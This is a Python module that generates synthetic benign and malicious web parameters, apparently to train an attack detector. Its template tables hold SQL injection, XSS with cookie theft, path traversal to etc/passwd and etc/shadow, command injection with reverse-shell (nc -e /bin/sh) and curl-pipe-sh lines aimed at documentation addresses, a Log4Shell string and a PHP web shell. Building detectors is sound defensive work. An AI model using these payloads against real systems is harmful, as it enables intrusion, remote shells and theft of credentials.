"""Parameters of our own making, which a collection of payloads lacks: for training only.

Public collections have names and numbers for normal parameters, and mostly SQL for attacks. A model
that knows nothing else takes an apostrophe, a path or a piece of JSON for an attack. These are
made from a grammar and a seed; what a model scores on them is never part of its figures.
"""

from __future__ import annotations

import random
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

_HOLE = re.compile(r"\{(\w+)\}")
#: Depth of holes within holes.
_DEEP = 6

_WORDS = """
report house green select union garden table order update winter market light script account
river from where cast window value delete system profile class budget music insert drop travel
student limit paper object image header button north group table version process request network
friend summer reading document cookie location
"""

_NAMES = """
O'Neil D'Angelo Smith-Jones Müller Nuñez van der Berg anna.k Jean-Luc Łukasz o'brien mc-donald
li wei
"""

#: What a hole in a template may hold; holes within are filled in turn.
_FILLINGS: dict[str, tuple[str, ...]] = {
    "word": tuple(_WORDS.split()),
    "name": tuple(_NAMES.split()),
    "ext": ("html", "php", "aspx", "jsp", "png", "css", "js", "pdf", "txt", "json", "xml"),
    "dir": ("images", "static", "blog", "shop", "docs", "user", "api/v2", "en", "archive", "bin"),
    "d": tuple("0123456789"),
    "n": ("{d}", "{d}{d}", "{d}{d}{d}{d}", "{d}{d}{d}{d}{d}{d}{d}", "-{d}{d}", "{d}.{d}{d}"),
    "h": tuple("0123456789abcdef"),
    "hex": ("{h}{h}{h}{h}{h}{h}{h}{h}", "{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}{h}"),
    "b": tuple("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
    "b4": ("{b}{b}{b}{b}",),
    "base64": ("{b4}{b4}{b4}{b4}==", "{b4}{b4}{b4}{b4}{b4}{b4}", "{b4}{b4}{b4}{b4}{b4}="),
    "sentence": (
        "{word} {word} {word} {word}.",
        "Please {word} the {word}, then {word} {word}!",
        "It's {n} {word}s ({word}; {word}) & {word}",
        'He said "{word} {word}" - didn\'t he?',
        "{word} = {n}, {word} > {n}",
        "Where is the {word} or the {word} from {name}?",
        "select your {word} from the {word} list",
        "{word} and {word} union of {word}s",
        "C++ / {word} #{n} -- {word}",
        "Tom & Jerry: 100% {word} @ {n}$",
    ),
    "path": (
        "/{dir}/{word}.{ext}",
        "/{dir}/{dir}/{word}-{word}_{n}.{ext}",
        "/{dir}/{hex}/",
        "/{word}/{n}/{n}/{word}/",
        "{word}/{word}.{ext}",
        "./{word}.{ext}",
        "C:\\{word}\\{word}.{ext}",
    ),
    "query": ("{word}={n}", "{word}={word}&{query}", "{word}={hex}&{word}={n}"),
    "sql": (
        "{n}' or '{n}'='{n}",
        "{word}' AND {n}={n}--",
        "' union select {n},{word},{word} from {word}--",
        '{n}" or sleep({n})#',
        "{n}; drop table {word};--",
        "admin'--",
        "{n}) union all select null,null,concat({word},{n})#",
        "' || (select {word} from {word} where {word}='{word}') || '",
        "{n} and (select count(*) from information_schema.tables)>{n}",
        "'; exec xp_cmdshell('{shell}')--",
    ),
    "xss": (
        "<script>alert({n})</script>",
        '"><img src={word} onerror=alert({n})>',
        "<svg/onload=prompt({n})>",
        "javascript:alert('{word}')",
        '<iframe src="javascript:confirm({n})"></iframe>',
        "';alert(document.cookie);//",
        "<body onload=eval(atob('{base64}'))>",
        '<a href="data:text/html;base64,{base64}">{word}</a>',
        "<object data=//{word}.example/{word}.js></object>",
    ),
    "file": (
        "etc/passwd",
        "etc/shadow",
        "windows/win.ini",
        "boot.ini",
        "proc/self/environ",
        "{word}",
    ),
    "up": ("../../", "..\\..\\", "../../../../", "....//....//", "..%2f..%2f", "%2e%2e/%2e%2e/"),
    "climb": ("{up}{file}", "/{up}{up}{file}", "{word}/{up}{file}%00", "file:///{file}", "/{file}"),
    "shell": (
        "cat /{file}",
        "id",
        "whoami",
        "ls -la",
        "ping -c {n} 192.0.2.{d}",
        "uname -a",
        "wget http://{word}.example/{word}.sh",
        "nc -e /bin/sh 192.0.2.{d} {n}",
        "curl http://192.0.2.{d}/{word} | sh",
        "sleep {d}",
        "/usr/bin/id",
        "dir c:\\",
    ),
    "command": (
        ";{shell}",
        "| {shell}",
        "{word} && {shell}",
        "`{shell}`",
        "$({shell})",
        "{word}; {shell};",
        "|| {shell} ||",
        "& {shell} &",
        "{word}|{shell}",
    ),
    "open": ("{",),
    "close": ("}",),
    "other": (
        "${open}jndi:ldap://{word}.example/{word}{close}",
        "{open}{open}{n}*{n}{close}{close}",
        "${open}{n}*{n}{close}",
        "<%= {n}*{n} %>",
        '<!DOCTYPE {word} [<!ENTITY {word} SYSTEM "file:///{file}">]>',
        "*)(uid=*))(|(uid=*",
        "{word}%0d%0aSet-Cookie: {word}={n}",
        '{open}"$ne": null{close}',
        "php://filter/convert.base64-encode/resource={word}.php",
        "<?php system($_GET['{word}']); ?>",
        '<!--#exec cmd="{shell}"-->',
        'O:{n}:"{word}":{n}:{open}s:{n}:"{word}";{close}',
        "{open}{open}config.__class__.__init__.__globals__{close}{close}",
    ),
}

_NORMAL = (
    "{sentence}", "{sentence} {sentence}", "{path}", "{path}?{query}", "{query}", "{base64}",
    "{hex}", "{hex}-{h}{h}{h}{h}-4{h}{h}{h}", '{open}"{word}": {n}, "{word}": "{word}"{close}',
    "[{n}, {n}, {n}]", "https://{word}.example/{dir}/{word}?{query}", "{name} {name}",
    "{word}@{word}.example", "{d}{d}:{d}{d}:{d}{d}", "20{d}{d}-0{d}-1{d}T1{d}:0{d}:00Z",
    "{word}, {word} & {word}", "<b>{word}</b> {sentence}", "${n}.{d}{d}", "{n}%", "+49 {n} {n}",
    "({word})", '"{word} {word}"', "{word}: {word}; {word}", "#{word}", "{word}+{word}", "{word}[]",
    "{word}.{word}.{word}", "{word}_{word}-{n}", "Mozilla/5.0 ({word}; {word} {n}) {word}/{n}",
)  # fmt: skip
_ATTACK = ("{sql}", "{sql}", "{xss}", "{xss}", "{climb}", "{climb}", "{command}", "{command}",
           "{other}")  # fmt: skip

#: Where a parameter may stand; the same for both kinds, so that the place says nothing.
_PLACES = ("{}", "{}", "{}", "id={}", "/{}", "/shop/item.php?name={}", "q={}&page=2", "x={} y")


def normal(count: int, seed: int) -> list[str]:
    """Parameters that no attacker sent."""
    draw = random.Random(seed)  # noqa: S311
    return [_filled(draw.choice(_NORMAL), draw.choice) for _ in range(count)]


def attacks(count: int, seed: int) -> list[str]:
    """Parameters as attackers send them, with documentation addresses in them."""
    draw = random.Random(seed)  # noqa: S311
    return [_filled(draw.choice(_ATTACK), draw.choice) for _ in range(count)]


def placed(texts: Sequence[str], seed: int) -> list[str]:
    """Each text in one of the places where parameters stand."""
    draw = random.Random(seed)  # noqa: S311
    return [draw.choice(_PLACES).replace("{}", text) for text in texts]


def _filled(template: str, choose: Callable[[tuple[str, ...]], str]) -> str:
    text = template
    for _ in range(_DEEP):
        filled = _HOLE.sub(lambda hole: _fill(hole[0], hole[1], choose), text)
        if filled == text:
            break
        text = filled
    return text


def _fill(hole: str, name: str, choose: Callable[[tuple[str, ...]], str]) -> str:
    return choose(_FILLINGS[name]) if name in _FILLINGS else hole
